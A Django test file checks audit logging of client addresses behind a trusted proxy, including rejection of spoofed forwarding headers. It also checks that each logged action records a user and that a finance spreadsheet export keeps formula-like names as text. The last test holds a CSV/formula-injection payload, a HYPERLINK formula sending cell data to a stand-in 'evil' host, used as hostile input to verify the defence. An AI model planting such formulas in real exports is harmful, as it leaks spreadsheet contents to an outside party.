"""The audit log is complete and records the client address as seen through the trusted proxy."""

from __future__ import annotations

import io

from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client, RequestFactory, override_settings
from sec_helpers import edit_form

from conftest import PASSWORD
from jixiao.web.audit.client import client_ip
from jixiao.web.audit.models import AuditEvent


def _kinds() -> set[str]:
    return set(AuditEvent.objects.values_list("kind", flat=True))


def test_client_address_through_the_trusted_proxy() -> None:
    rf = RequestFactory()
    spoofed = rf.get("/", REMOTE_ADDR="203.0.113.9", HTTP_X_FORWARDED_FOR="1.2.3.4")
    assert client_ip(spoofed) == "203.0.113.9"                 # no trusted proxy: the header is ignored
    with override_settings(TRUSTED_PROXIES=["10.0.0.0/8"]):
        via = rf.get("/", REMOTE_ADDR="10.0.0.2", HTTP_X_FORWARDED_FOR="1.2.3.4, 198.51.100.20, 10.0.0.7")
        assert client_ip(via) == "198.51.100.20"               # right-most hop that is not a proxy
        direct = rf.get("/", REMOTE_ADDR="198.51.100.21", HTTP_X_FORWARDED_FOR="1.2.3.4")
        assert client_ip(direct) == "198.51.100.21"            # a client cannot forge it by sending the header


def test_every_kind_of_action_is_logged_with_who_and_address(world) -> None:
    with override_settings(TRUSTED_PROXIES=["10.0.0.1"]):
        proxy = {"REMOTE_ADDR": "10.0.0.1", "HTTP_X_FORWARDED_FOR": "198.51.100.30"}
        anon = Client(**proxy)
        anon.post("/login/", {"username": "prep_a", "password": "wrong"})
        prep = Client(**proxy)
        assert prep.post("/login/", {"username": "prep_a", "password": PASSWORD}).status_code == 302
        pk = world.project_a.pk
        form = edit_form(prep, pk)
        form["n.goal"] = "审计测试"
        assert prep.post(f"/projects/{pk}/edit/", form).status_code == 302
        prep.get(f"/projects/{pk}/download/yaml/")
        prep.post(f"/projects/{pk}/evidence/", {"file": SimpleUploadedFile("a.txt", "佐证".encode())})
        item = world.project_a.evidence_files.get()
        prep.get(f"/projects/{pk}/evidence/{item.pk}/")
        prep.post(f"/projects/{pk}/evidence/{item.pk}/delete/")
        prep.post(f"/projects/{pk}/submit/", {"revision": 2, "acknowledge": "on", "reason": "测试"})
        prep.post("/tokens/", {"label": "对接"})
        token = prep.get("/tokens/")
        assert token.status_code == 200
        from jixiao.web.accounts.models import ApiToken
        prep.post("/tokens/", {"action": "revoke", "id": ApiToken.objects.get(user=world.users["prep_a"]).pk})
        adm = Client(**proxy)
        adm.force_login(world.users["adm"])
        adm.post("/users/", {"action": "department", "name": "审计部门"})
        adm.post("/users/", {"action": "create", "username": "auditee", "password": "Kx8-copper-willow",
                             "role": "finance"})
        from django.contrib.auth import get_user_model
        new = get_user_model().objects.get(username="auditee")
        adm.post("/users/", {"action": "update", "id": new.pk, "role": "admin"})
        adm.post("/users/", {"action": "deactivate", "id": new.pk})
        adm.post("/users/", {"action": "reset", "id": new.pk, "password": "Rz5-amber-thistle"})
        fin = Client(**proxy)
        fin.force_login(world.users["fin"])
        fin.get("/portfolio/export.xlsx")
        fin.post(f"/projects/{pk}/approve/", {"revision": 2})
    expected = {"login_failed", "login", "save", "download", "upload", "evidence_delete", "submit", "token_issue",
                "token_revoke", "department_create", "user_create", "user_update", "user_active",
                "password_reset", "approve"}
    assert expected <= _kinds(), expected - _kinds()
    for kind in expected:
        events = AuditEvent.objects.filter(kind=kind)
        assert any(e.ip == "198.51.100.30" for e in events), kind       # the client, not the proxy
        assert all(e.username for e in events), kind
    assert not AuditEvent.objects.filter(ip="10.0.0.1").exists()
    reset = AuditEvent.objects.get(kind="password_reset")
    assert reset.username == "adm" and reset.detail["target"] == "auditee"


def test_portfolio_export_cells_are_text(world) -> None:
    """The 财政 export: a project named like a formula stays text (read from the sheet XML)."""
    from jixiao.web.projects.models import ProjectRecord
    from xml_cells import formulas, texts
    hostile = '=HYPERLINK("http://evil/?leak="&A3,"点我查看")'
    ProjectRecord.objects.filter(pk=world.project_a.pk).update(name=hostile)
    data = world.client("fin").get("/portfolio/export.xlsx").content
    assert formulas(io.BytesIO(data).getvalue()) == []
    assert hostile in texts(data)
